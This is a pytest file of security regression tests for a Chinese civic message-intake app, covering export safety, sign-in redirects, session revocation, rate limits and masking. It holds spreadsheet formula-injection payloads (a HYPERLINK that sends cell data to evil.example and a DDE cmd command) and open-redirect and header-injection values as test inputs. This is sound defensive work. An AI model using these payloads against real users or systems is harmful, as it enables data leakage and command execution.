"""What a security review found by attacking a running instance, each kept fixed by a test."""

from __future__ import annotations

import io
import json
import random
import re
import stat
import unicodedata
from datetime import datetime, timezone

import docx
from openpyxl import load_workbook
from PIL import Image
from sqlalchemy import func, select
from werkzeug.http import parse_date

from intake.models import Attachment, Message, MessageStatus, StaffRole, StaffUser
from tests.conftest import build_app, csrf_token, make_settings
from tests.helpers import (
    add_staff,
    add_unit_staff,
    deputies,
    import_roster,
    report,
    send,
    set_password,
    sign_in_deputy,
    sign_in_staff,
    slug_of,
    write_roster,
)
from workers.queues import enqueue_classify


def _messages(app, deputy_ids: list[int], texts: list[str] | None = None, **fields) -> list[int]:
    """One stored message per listed deputy, in that order; returns their ids."""
    texts = texts or [f"幸福小区门口的路灯坏了 第{n}条" for n in range(len(deputy_ids))]
    with app.extensions["mashang"].sessions() as session, session.begin():
        rows = [Message(deputy_id=deputy_id, channel="web", text=text, receipt=f"R{n:06d}", **fields)
                for n, (deputy_id, text) in enumerate(zip(deputy_ids, texts))]
        session.add_all(rows)
        session.flush()
        return [row.id for row in rows]


def _act(staff_client, **form):
    token = csrf_token(staff_client, "/staff/")
    return staff_client.post("/staff/messages/actions", data={"csrf_token": token, **form})


# --- 1. a message's history is looked up by its exact target ---------------------------------------
def test_a_messages_history_shows_no_other_stations_notes(app, tmp_path):
    import_roster(app, write_roster(tmp_path))
    listed = deputies(app)
    qingshi, liuhe = listed[0]["id"], listed[2]["id"]
    ids = _messages(app, [qingshi] + [liuhe] * 11)
    assert ids[0] == 1 and ids[9] == 10 and ids[10] == 11
    add_staff(app, "qingshi", StaffRole.STATION, "青石街道人大代表联络站")
    add_staff(app, "liuhe", StaffRole.STATION, "柳河镇人大代表联络站")
    other_station = sign_in_staff(app, "liuhe")
    assert _act(other_station, action="note", note="柳河镇内部备注：已电话13900000099", ids=["10", "11"]).status_code == 302
    own = sign_in_staff(app, "qingshi")
    assert _act(own, action="note", note="青石自己的备注", ids=["1"]).status_code == 302
    page = own.get("/staff/messages/1").get_data(as_text=True)
    assert "青石自己的备注" in page
    assert "柳河镇内部备注" not in page and "13900000099" not in page


def test_audit_search_treats_percent_and_underscore_literally(app, tmp_path):
    import_roster(app, write_roster(tmp_path))
    ids = _messages(app, [deputies(app)[0]["id"]])
    add_staff(app, "office", StaffRole.OFFICE, None)
    office = sign_in_staff(app, "office")
    _act(office, action="note", note="普通备注", ids=[str(ids[0])])
    assert "message:1" in office.get("/staff/audit", query_string={"q": "message:1"}).get_data(as_text=True)
    for wildcard in ("%", "_", "message_1", "mess%1"):
        page = office.get("/staff/audit", query_string={"q": wildcard}).get_data(as_text=True)
        assert "message:1" not in page, wildcard


def test_audit_search_for_a_control_character_is_an_empty_search_not_maintenance(app):
    """PostgreSQL refuses a NUL in a parameter; the page must not answer "under maintenance" for one."""
    add_staff(app, "office", StaffRole.OFFICE, None)
    page = sign_in_staff(app, "office").get("/staff/audit", query_string={"q": "message\x00"})
    assert page.status_code == 200 and 'value="message"' in page.get_data(as_text=True)


def test_a_deputys_message_search_for_a_control_character_is_a_search_not_maintenance(app, tmp_path):
    deputy, _ = _signed_in_deputy(app, tmp_path)
    _messages(app, [deputies(app)[0]["id"]], ["幸福小区门口的路灯坏了"])
    page = deputy.get("/deputy/messages", query_string={"q": "路灯\x00", "topic": "\x00"})
    assert page.status_code == 200 and "幸福小区门口的路灯坏了" in page.get_data(as_text=True)


def test_a_link_holding_a_nul_is_a_link_that_does_not_exist_not_maintenance(app):
    client = app.test_client()
    assert client.get("/c/%00").status_code == client.get("/c/no-such-link").status_code == 404


# --- 2. nothing from outside becomes a formula in the .xlsx export ---------------------------------
FORMULAS = ['=HYPERLINK("http://evil.example/?"&K2,"点击查看")', "=cmd|' /C calc'!A0", '=WEBSERVICE("http://evil.example")',
            "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]


def test_export_holds_citizen_text_as_text_never_as_a_formula(app, run_jobs, tmp_path):
    import_roster(app, write_roster(tmp_path))
    deputy = deputies(app)[0]["id"]
    _messages(app, [deputy] * len(FORMULAS), FORMULAS, contact_phone="=1+1", share_phone=True)
    add_staff(app, "qingshi", StaffRole.STATION, "青石街道人大代表联络站")
    staff = sign_in_staff(app, "qingshi")
    started = staff.post("/staff/exports", data={"csrf_token": csrf_token(staff, "/staff/")})
    run_jobs()
    sheet = load_workbook(io.BytesIO(staff.get(started.headers["Location"] + ".xlsx").data)).active
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == len(FORMULAS)
    formulas = [cell.coordinate for row in rows for cell in row if cell.data_type == "f"]
    assert formulas == []
    # What the citizen wrote is all still there, as written (no visible quote): text marked with Excel's hidden
    # quote prefix, so editing the cell does not run it either.
    shown = sorted(row[9].value.replace("\r", "\n") for row in rows)
    assert shown == sorted(written.replace("\r", "\n") for written in FORMULAS)
    assert all(row[10].value == "=1+1" and row[10].quotePrefix for row in rows)
    assert all(row[9].quotePrefix and row[9].data_type == "s" for row in rows)


# --- 6. non-characters and lone surrogates neither break intake nor documents ---------------------
BROKEN = "幸福小区门口的\ufffe路灯坏了\uffff一个月了\ud800，晚上\U0010ffff很黑\x0b"


def _deputy_documents(app, phone: str = "13900000001") -> list[bytes]:
    set_password(app, phone, "wang-password-1")
    deputy = app.test_client()
    sign_in_deputy(deputy, phone, "wang-password-1")
    paths = re.findall(r'href="(/deputy/drafts/\d+)"', deputy.get("/deputy/").get_data(as_text=True))
    assert paths
    responses = [deputy.get(f"{path}/document") for path in paths]
    assert [r.status_code for r in responses] == [200] * len(paths)
    return [r.data for r in responses]


def _export_texts(app, run_jobs) -> list[str]:
    add_staff(app, "qingshi", StaffRole.STATION, "青石街道人大代表联络站")
    staff = sign_in_staff(app, "qingshi")
    started = staff.post("/staff/exports", data={"csrf_token": csrf_token(staff, "/staff/")})
    run_jobs()
    download = staff.get(started.headers["Location"] + ".xlsx")
    assert download.status_code == 200
    return [row[9] for row in load_workbook(io.BytesIO(download.data)).active.iter_rows(min_row=2, values_only=True)]


def test_chat_drops_lone_surrogates_and_non_characters(app, runtime, run_jobs, tmp_path):
    import_roster(app, write_roster(tmp_path))
    slug = slug_of(deputies(app)[0])
    citizen = app.test_client()
    token = csrf_token(citizen, f"/c/{slug}")
    raw = json.dumps({"text": BROKEN}, ensure_ascii=True)
    assert "\\ud800" in raw
    answer = citizen.post(f"/api/chat/{slug}", data=raw, content_type="application/json", headers={"X-CSRFToken": token})
    assert answer.status_code == 200, answer.data
    assert report(citizen, slug, "同意")
    with runtime.sessions() as session:
        stored = session.scalars(select(Message.text)).all()
    assert stored and stored[0].startswith("幸福小区门口的路灯坏了一个月了，晚上很黑")
    run_jobs()
    documents = _deputy_documents(app)
    assert "路灯坏了一个月了" in "\n".join(p.text for p in docx.Document(io.BytesIO(documents[0])).paragraphs)


def test_documents_and_exports_survive_such_characters_stored_before(app, runtime, run_jobs, tmp_path):
    import_roster(app, write_roster(tmp_path))
    # A database stores no lone surrogate; everything else in BROKEN could have been stored by older versions.
    ids = _messages(app, [deputies(app)[0]["id"]], [BROKEN.replace("\ud800", "")])
    enqueue_classify(runtime.redis, ids[0])
    run_jobs()
    text = "\n".join(p.text for p in docx.Document(io.BytesIO(_deputy_documents(app)[0])).paragraphs)
    assert "幸福小区门口的路灯坏了一个月了" in text
    assert [t.startswith("幸福小区门口的路灯坏了一个月了") for t in _export_texts(app, run_jobs)] == [True]


def test_imported_rosters_and_opinions_drop_such_characters(app, runtime, tmp_path):
    roster = write_roster(tmp_path, "姓名,层级,联络站,手机\n王\ufffe秀兰,区,青石街道人大代表联络站,13900000001\n")
    assert import_roster(app, roster).exit_code == 0
    assert [d["name"] for d in deputies(app)] == ["王秀兰"]
    sheet = write_roster(tmp_path, "编号,意见\nJD-\uffff01,东湖路菜市场旁边的污水沟\ufffe臭味很大\n", "paper.csv")
    result = app.test_cli_runner().invoke(args=["messages", "import", str(sheet), "--deputy", slug_of(deputies(app)[0]),
                                                "--text-col", "意见", "--id-col", "编号"])
    assert result.exit_code == 0 and "新增 1 条意见" in result.output, result.output
    with runtime.sessions() as session:
        assert session.execute(select(Message.external_id, Message.text)).all() == [("JD-01", "东湖路菜市场旁边的污水沟臭味很大")]


# --- 3. no redirect off the site after sign-in -------------------------------------------------------
HOSTILE_NEXT = ["/\t/evil.example", "/\r\nSet-Cookie: planted=1", "/\n/evil.example",
                "/ /evil.example", "/\x0b/evil.example", "//evil.example", "https://evil.example/", "/\\evil.example"]


def test_sign_in_never_redirects_off_the_site_and_never_fails_on_next(app, tmp_path):
    import_roster(app, write_roster(tmp_path))
    add_staff(app, "office", StaffRole.OFFICE, None)
    for target in HOSTILE_NEXT:
        client = app.test_client()
        token = csrf_token(client, "/staff/login")
        answer = client.post("/staff/login", query_string={"next": target},
                             data={"username": "office", "password": "pw-office", "csrf_token": token})
        assert answer.status_code == 302, (target, answer.status_code)
        location = answer.headers["Location"]
        assert location.startswith("/") and not location.startswith("//") and "evil" not in location, (target, location)
        assert "planted" not in answer.headers.get("Set-Cookie", ""), target
    client = app.test_client()
    token = csrf_token(client, "/staff/login")
    kept = client.post("/staff/login", query_string={"next": "/staff/deputies?x=1"},
                       data={"username": "office", "password": "pw-office", "csrf_token": token})
    assert kept.headers["Location"] == "/staff/deputies?x=1"


# --- 5. sign-out, a new password and deactivation end every copy of a session -----------------------
def _copy_of(client, app):
    """A second browser holding the same session cookie (as a stolen or synced cookie would be)."""
    copy = app.test_client()
    copy.set_cookie("session", client.get_cookie("session").value)
    return copy


def _signed_in_deputy(app, tmp_path):
    import_roster(app, write_roster(tmp_path))
    set_password(app, "13900000001", "wang-password-1")
    deputy = app.test_client()
    assert sign_in_deputy(deputy, "13900000001", "wang-password-1").status_code == 302
    copy = _copy_of(deputy, app)
    assert copy.get("/deputy/").status_code == 200
    return deputy, copy


def test_signing_out_ends_every_copy_of_the_deputys_session(app, tmp_path):
    deputy, copy = _signed_in_deputy(app, tmp_path)
    deputy.post("/deputy/logout", data={"csrf_token": csrf_token(deputy, "/deputy/")})
    assert copy.get("/deputy/").status_code == 302
    assert sign_in_deputy(deputy, "13900000001", "wang-password-1").status_code == 302
    assert deputy.get("/deputy/").status_code == 200


def test_signing_out_on_one_device_leaves_the_others_signed_in_unless_asked_to_end_them(app, tmp_path):
    deputy, copy = _signed_in_deputy(app, tmp_path)
    phone = app.test_client()
    assert sign_in_deputy(phone, "13900000001", "wang-password-1").status_code == 302
    deputy.post("/deputy/logout", data={"csrf_token": csrf_token(deputy, "/deputy/")})
    assert copy.get("/deputy/").status_code == 302  # the ended sign-in's cookie, wherever it is
    assert phone.get("/deputy/").status_code == 200  # the deputy's phone, signed in on its own
    assert "退出所有设备" in phone.get("/deputy/").get_data(as_text=True)
    phone.post("/deputy/logout", data={"csrf_token": csrf_token(phone, "/deputy/"), "everywhere": "1"})
    assert sign_in_deputy(deputy, "13900000001", "wang-password-1").status_code == 302
    other = app.test_client()
    assert sign_in_deputy(other, "13900000001", "wang-password-1").status_code == 302
    other.post("/deputy/logout", data={"csrf_token": csrf_token(other, "/deputy/"), "everywhere": "1"})
    assert deputy.get("/deputy/").status_code == 302 and phone.get("/deputy/").status_code == 302


def test_signing_out_holds_while_redis_is_away_and_leaves_the_other_devices_signed_in(tmp_path, database_url):
    """Ended sign-ins were noted in Redis only: one ended while Redis was away ended the account's every device, and
    one ended before Redis went away worked again, from any copy of its cookie, until Redis came back."""
    from tests.test_health import _free_port
    from workers.embedded_redis import EmbeddedRedis

    server = EmbeddedRedis(tmp_path / "redis", port=_free_port()).start()
    app = build_app(make_settings(tmp_path, database_url, server.url))
    try:
        add_staff(app, "office", StaffRole.OFFICE, None)
        desk, laptop, phone = (sign_in_staff(app, "office") for _ in range(3))
        desk_copy, laptop_copy = _copy_of(desk, app), _copy_of(laptop, app)
        laptop_token = csrf_token(laptop, "/staff/")
        assert laptop.post("/staff/logout", data={"csrf_token": laptop_token}).status_code == 302
        desk_token = csrf_token(desk, "/staff/")
        server.kill()
        assert laptop_copy.get("/staff/").status_code == 302, "ended before Redis went away"
        assert desk.post("/staff/logout", data={"csrf_token": desk_token}).status_code == 302
        assert desk_copy.get("/staff/").status_code == 302, "ended while Redis was away"
        assert phone.get("/staff/").status_code == 200, "the account's other device stays signed in"
        server.start()
        assert desk_copy.get("/staff/").status_code == 302 and laptop_copy.get("/staff/").status_code == 302
        assert phone.get("/staff/").status_code == 200
    finally:
        server.stop()
        app.extensions["mashang"].close()


def test_a_new_password_ends_the_deputys_sessions(app, tmp_path):
    deputy, copy = _signed_in_deputy(app, tmp_path)
    add_staff(app, "office", StaffRole.OFFICE, None)
    office = sign_in_staff(app, "office")
    listed = deputies(app)[0]
    form = {"name": listed["name"], "level": "区", "station": "1", "phone": "13900000001", "active": "on",
            "password": "a-brand-new-password", "csrf_token": csrf_token(office, f"/staff/deputies/{listed['id']}")}
    assert office.post(f"/staff/deputies/{listed['id']}", data=form).status_code == 302
    assert deputy.get("/deputy/").status_code == 302 and copy.get("/deputy/").status_code == 302


def test_a_staff_password_reset_or_chosen_from_a_link_ends_the_sessions_signed_in_before(app, tmp_path):
    import_roster(app, write_roster(tmp_path))
    add_staff(app, "qingshi", StaffRole.STATION, "青石街道人大代表联络站")
    staff = sign_in_staff(app, "qingshi")
    copy = _copy_of(staff, app)
    assert copy.get("/staff/").status_code == 200
    reset = app.test_cli_runner().invoke(args=["accounts", "reset", "qingshi", "--password-stdin"],
                                         input="a-brand-new-password\n")
    assert reset.exit_code == 0, reset.output
    assert staff.get("/staff/").status_code == 302 and copy.get("/staff/").status_code == 302
    # The one-time link: whoever held the account before is signed out, the one who chose the password is in.
    staff = app.test_client()
    assert staff.post("/staff/login", data={"username": "qingshi", "password": "a-brand-new-password",
                                            "csrf_token": csrf_token(staff, "/staff/login")}).status_code == 302
    assert staff.get("/staff/").status_code == 200
    reset = app.test_cli_runner().invoke(args=["accounts", "reset", "qingshi", "--link"])
    path = reset.output.strip().splitlines()[-1].removeprefix("http://mashang.test")
    chooser = app.test_client()
    chosen = chooser.post(path, data={"csrf_token": csrf_token(chooser, path), "password": "another-long-password",
                                      "again": "another-long-password"})
    assert chosen.status_code == 302
    assert chooser.get("/staff/").status_code == 200 and staff.get("/staff/").status_code == 302


def test_deactivating_staff_ends_their_sessions_even_if_reactivated(app, runtime, tmp_path):
    import_roster(app, write_roster(tmp_path))
    add_staff(app, "admin", StaffRole.ADMIN, None)
    add_staff(app, "qingshi", StaffRole.STATION, "青石街道人大代表联络站")
    admin, qingshi = sign_in_staff(app, "admin"), sign_in_staff(app, "qingshi")
    # A new account's role is chosen, never 管理员 by default (the first option used to be preselected).
    assert '<select name="role" required><option value="" selected disabled>请选择</option>' in admin.get(
        "/staff/accounts").get_data(as_text=True)
    copy = _copy_of(qingshi, app)
    with runtime.sessions() as session:
        user_id = session.scalar(select(StaffUser.id).where(StaffUser.username == "qingshi"))
    token = csrf_token(admin, "/staff/accounts")
    assert admin.post(f"/staff/accounts/{user_id}/deactivate",
                      data={"csrf_token": token, "confirm": "yes"}).status_code == 302
    with runtime.sessions() as session, session.begin():
        session.get(StaffUser, user_id).active = True  # taken back on later: the old cookies stay dead
    assert qingshi.get("/staff/").status_code == 302 and copy.get("/staff/").status_code == 302
    assert sign_in_staff(app, "qingshi").get("/staff/").status_code == 200


# --- 7. photos up to the promised 5 MB are taken -------------------------------------------------
def test_a_4_mb_photo_is_accepted(app, runtime, tmp_path):
    import_roster(app, write_roster(tmp_path))
    slug = slug_of(deputies(app)[0])
    citizen = app.test_client()
    send(citizen, slug, "幸福小区东门的路灯坏了一个多月，晚上很黑。")
    picture = io.BytesIO()
    noise = random.Random(7).randbytes(2300 * 1500 * 3)  # noise does not compress: a photo-sized file
    Image.frombytes("RGB", (2300, 1500), noise).save(picture, format="JPEG", quality=95)
    assert 3_500_000 < len(picture.getvalue()) < 5 * 1024 * 1024
    token = csrf_token(citizen, f"/c/{slug}")
    answer = citizen.post(f"/api/chat/{slug}/image", data={"image": (io.BytesIO(picture.getvalue()), "p.jpg")},
                          headers={"X-CSRFToken": token}, content_type="multipart/form-data")
    assert answer.status_code == 200 and "图片已收到" in answer.get_json()["replies"][0]
    with runtime.sessions() as session:
        assert session.scalar(select(func.count()).select_from(Attachment)) == 1


# --- 10. limits see the citizen's address behind the proxy, and the account however it is spelled ----
def test_other_spellings_of_a_phone_share_one_sign_in_limit(app, tmp_path):
    import_roster(app, write_roster(tmp_path))
    set_password(app, "13900000001", "the-right-password")
    attacker = app.test_client()
    for spelling in ("139-0000-0001", "139 0000 0001", "+86 13900000001", "１３９００００００01", "139.0000.0001"):
        assert sign_in_deputy(attacker, spelling, "guess").status_code == 401
    assert sign_in_deputy(attacker, "13900000001", "the-right-password").status_code == 429


def test_behind_a_trusted_proxy_limits_key_on_the_forwarded_address(tmp_path, database_url, redis_conn, redis_url):
    app = build_app(make_settings(tmp_path, database_url, redis_url, TRUSTED_PROXIES="1"))
    try:
        import_roster(app, write_roster(tmp_path))
        set_password(app, "13900000001", "the-right-password")
        attacker, deputy = app.test_client(), app.test_client()
        for client, address in ((attacker, "203.0.113.9"), (deputy, "198.51.100.7")):
            client.environ_base.update(REMOTE_ADDR="127.0.0.1", HTTP_X_FORWARDED_FOR=address)
        for _ in range(5):
            sign_in_deputy(attacker, "13900000001", "guess")
        assert sign_in_deputy(attacker, "13900000001", "the-right-password").status_code == 429
        assert sign_in_deputy(deputy, "13900000001", "the-right-password").status_code == 302
    finally:
        app.extensions["mashang"].close()


def test_per_address_limits_count_an_ipv6_home_by_its_slash_64(tmp_path, database_url, redis_conn, redis_url):
    """A home or phone on IPv6 holds a whole /64 and may take a new address in it for every request: the photo and
    chat limits per address count the /64, or they limit nothing."""
    app = build_app(make_settings(tmp_path, database_url, redis_url, CHAT_PER_ADDRESS_PER_MINUTE="4",
                                  CHAT_IMAGES_PER_ADDRESS_PER_MINUTE="2"))
    try:
        import_roster(app, write_roster(tmp_path))
        slug = slug_of(deputies(app)[0])
        picture = io.BytesIO()
        Image.new("RGB", (40, 30), (30, 120, 200)).save(picture, format="JPEG")

        def new_citizen(address: str):
            client = app.test_client()  # no cookie: a new citizen each time
            client.environ_base["REMOTE_ADDR"] = address
            return client, csrf_token(client, f"/c/{slug}")

        def photo(address: str) -> int:
            client, token = new_citizen(address)
            return client.post(f"/api/chat/{slug}/image", data={"image": (io.BytesIO(picture.getvalue()), "p.jpg")},
                               headers={"X-CSRFToken": token}, content_type="multipart/form-data").status_code

        assert [photo(f"2001:db8:1:2::{n:x}") for n in range(1, 4)] == [200, 200, 429]
        assert photo("2001:db8:1:3::1") == 200  # the next /64 is another home
        redis_conn.flushdb()
        words = [send(new_citizen(f"2001:db8:5:6:{n:x}::1")[0], slug, "幸福小区东门的路灯坏了").status_code
                 for n in range(1, 7)]
        assert words[:4] == [200] * 4 and words[4:] == [429, 429], words
        assert send(new_citizen("2001:db8:5:7::1")[0], slug, "幸福小区东门的路灯坏了").status_code == 200
    finally:
        app.extensions["mashang"].close()


def test_without_trusted_proxies_a_forwarded_address_is_not_believed(app, tmp_path):
    import_roster(app, write_roster(tmp_path))
    set_password(app, "13900000001", "the-right-password")
    attacker = app.test_client()
    for n in range(5):
        attacker.environ_base["HTTP_X_FORWARDED_FOR"] = f"10.0.0.{n}"
        sign_in_deputy(attacker, "13900000001", "guess")
    attacker.environ_base["HTTP_X_FORWARDED_FOR"] = "10.0.0.99"
    assert sign_in_deputy(attacker, "13900000001", "the-right-password").status_code == 429


# --- 13. ids and dates out of range are a 404 or ignored, never a 500 ------------------------------
def test_ids_and_dates_out_of_range_never_make_a_500(app, tmp_path):
    import_roster(app, write_roster(tmp_path))
    _messages(app, [deputies(app)[0]["id"]])
    set_password(app, "13900000001", "wang-password-1")
    deputy = app.test_client()
    sign_in_deputy(deputy, "13900000001", "wang-password-1")
    huge = "99999999999999999999"
    for path in (f"/deputy/drafts/{huge}", f"/deputy/drafts/{huge}/document", "/deputy/drafts/2147483648"):
        assert deputy.get(path).status_code == 404, path
    assert deputy.get("/deputy/messages", query_string={"page": huge}).status_code == 200
    add_staff(app, "office", StaffRole.OFFICE, None)
    office = sign_in_staff(app, "office")
    assert office.get(f"/staff/messages/{huge}").status_code == 404
    for query in ({"date_from": "0001-01-01"}, {"date_to": "9999-12-31"}, {"deputy": huge}, {"station": huge},
                  {"before": huge}, {"deputy": "²"}):
        page = office.get("/staff/", query_string=query)
        assert page.status_code == 200 and "幸福小区门口的路灯坏了" in page.get_data(as_text=True), query
    acted = _act(office, action="note", note="备注", ids=[huge, "²"])
    assert acted.status_code == 422 and "备注" in acted.get_data(as_text=True)  # refused, the queue shown again


# --- 17. staff and deputy pages are never cached; instance files are private ------------------------
def test_staff_deputy_and_unit_pages_are_not_stored_by_browsers_or_proxies(app, tmp_path):
    import_roster(app, write_roster(tmp_path))
    set_password(app, "13900000001", "wang-password-1")
    deputy = app.test_client()
    sign_in_deputy(deputy, "13900000001", "wang-password-1")
    add_staff(app, "office", StaffRole.OFFICE, None)
    office = sign_in_staff(app, "office")
    add_unit_staff(app, "zhujian", "区住房和城乡建设局")
    housing = sign_in_staff(app, "zhujian")
    for client, path in ((deputy, "/deputy/"), (deputy, "/deputy/messages"), (office, "/staff/"),
                         (office, "/staff/deputies"), (app.test_client(), "/staff/login"), (housing, "/unit/")):
        answer = client.get(path)
        assert answer.status_code == 200 and "no-store" in answer.headers.get("Cache-Control", ""), path


# --- 16. citizens keep their own cookie for a year; sign-ins still end after 12 hours ---------------
def _lifetime_hours(response, name: str) -> float:
    """How long the browser keeps the cookie this response sets, by its Max-Age or its Expires."""
    [header] = [h for h in response.headers.getlist("Set-Cookie") if h.startswith(name + "=")]
    max_age = re.search(r"Max-Age=(\d+)", header)
    if max_age:
        return int(max_age.group(1)) / 3600
    expires = parse_date(re.search(r"Expires=([^;]+)", header).group(1))
    return (expires - datetime.now(timezone.utc)).total_seconds() / 3600


def test_a_citizen_can_check_a_receipt_after_the_12_hour_session_is_gone(app, tmp_path):
    import_roster(app, write_roster(tmp_path))
    slug = slug_of(deputies(app)[0])
    citizen = app.test_client()
    assert _lifetime_hours(citizen.get(f"/c/{slug}"), "mashang_citizen") >= 364 * 24
    receipt = report(citizen, slug, "幸福小区门口路灯坏了")["receipt"]
    citizen.delete_cookie("session")  # what the browser does when the 12-hour session cookie expires
    answer = send(citizen, slug, f"查询 {receipt}").get_json()["replies"][0]
    assert receipt in answer and "已收到" in answer
    set_password(app, "13900000001", "wang-password-1")
    assert 11.9 < _lifetime_hours(sign_in_deputy(app.test_client(), "13900000001", "wang-password-1"), "session") <= 12


def test_instance_files_are_readable_by_their_owner_only(tmp_path, redis_url):
    from intake.config import Settings
    from intake.demo import loader

    instance = tmp_path / "fresh" / "instance"
    settings = Settings.from_env({"MASHANG_INSTANCE": str(instance), "REDIS_URL": redis_url})
    app = build_app(settings)
    try:
        with app.extensions["mashang"].sessions() as session:
            session.execute(select(1))
        loader.save_logins(instance, {"office": "pw"})
    finally:
        app.extensions["mashang"].close()
    assert stat.S_IMODE(instance.stat().st_mode) == 0o700
    for name in ("secret_key", "mashang.db", "demo-logins.json"):
        assert stat.S_IMODE((instance / name).stat().st_mode) == 0o600, name


# --- 14. spam rules see copies from fresh cookies, disguised links and spaced insults ---------------
def test_copies_from_fresh_cookies_disguised_links_and_spaced_insults_are_held(app, runtime, run_jobs, tmp_path):
    import_roster(app, write_roster(tmp_path))
    slug = slug_of(deputies(app)[0])
    copy = "幸福小区的物业收费太高了，大家一起来投诉"
    for _ in range(4):
        report(app.test_client(), slug, copy)  # a fresh cookie each time: a new "citizen"
    for text in ("ｈｔｔｐ://spam．com 领取补贴，幸福小区", "领补贴 hxxp://evil.example 或 ｗｗｗ．evil．cn 幸福小区", "幸福小区的路灯坏了，你们这些傻 逼",
                 "幸福小区没人管，去　死吧"):
        report(app.test_client(), slug, text)
    run_jobs()
    with runtime.sessions() as session:
        statuses = dict(session.execute(select(Message.text, Message.status)).all())
        copies = session.scalars(select(Message.status).where(Message.text == copy).order_by(Message.id)).all()
    assert copies[0] != MessageStatus.HELD and set(copies[2:]) == {MessageStatus.HELD}
    held = [text for text, status in statuses.items() if status == MessageStatus.HELD and text != copy]
    assert len(held) == 4, statuses


# --- 15. masking sees numbers however they are typed -------------------------------------------------
SPELLINGS = ["１３９１２３４５６７８", "139.1234.5678", "139/1234/5678", "139—1234—5678", "8613912345678",
             "+86 139 1234 5678", "+8613912345678", "１３９－１２３４－５６７８", "0731—8456—7890"]


def test_masking_sees_full_width_digits_other_separators_and_the_country_code():
    from intake.services.privacy import masking

    for number in SPELLINGS:
        masked = masking.mask(f"我的电话{number}，请联系")
        digits = re.sub(r"\D", "", unicodedata.normalize("NFKC", masked))
        assert "12345678" not in digits and "84567890" not in digits, (number, masked)
        assert "****" in masked and masked.startswith("我的电话") and masked.endswith("，请联系"), masked
    assert masking.mask("2026年11月20日下午3点，共150元") == "2026年11月20日下午3点，共150元"
